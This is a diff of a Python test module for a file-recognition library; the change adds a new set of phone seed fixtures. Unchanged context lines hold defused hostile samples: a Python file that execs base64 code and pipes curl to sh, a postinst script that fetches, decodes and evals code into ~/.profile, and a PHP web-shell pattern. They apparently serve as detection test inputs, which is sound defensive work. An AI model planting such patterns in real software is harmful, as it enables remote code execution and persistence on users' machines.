@@ -27,7 +27,7 @@ from evenhand.errors import EvenhandError
 from evenhand.recognise import readers_for
 from tests.bad_input.make import ar, member, tarred
 from tests.native.made import AARCH64, X86_64, program
-from tests.readers import archive_seeds
+from tests.readers import archive_seeds, phone_seeds
 from tests.readers.cpio.test_cpio import newc, odc
 from tests.readers.reading import SHARED, pull
 from tests.readers.rpm.test_rpm import TAGS, package
@@ -95,6 +95,7 @@ MADE = {
     "hello.rpm": package(TAGS),
     "keys.log": b"# TLS secrets\nCLIENT_RANDOM %b %b\n" % (b"0a" * 32, b"1B" * 48),
     **archive_seeds.MADE,
+    **phone_seeds.MADE,
     "hello.py": b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl|sh')",
     "postinst": b'#!/bin/sh\nset -e\nX=$(curl -s h | base64 -d)\neval "$X" >> ~/.profile\n',
     "a.php": b"<?php $f = strrev('metsys'); $f($_GET['x']); eval(base64_decode('ZWNobyAxOw=='));\n",
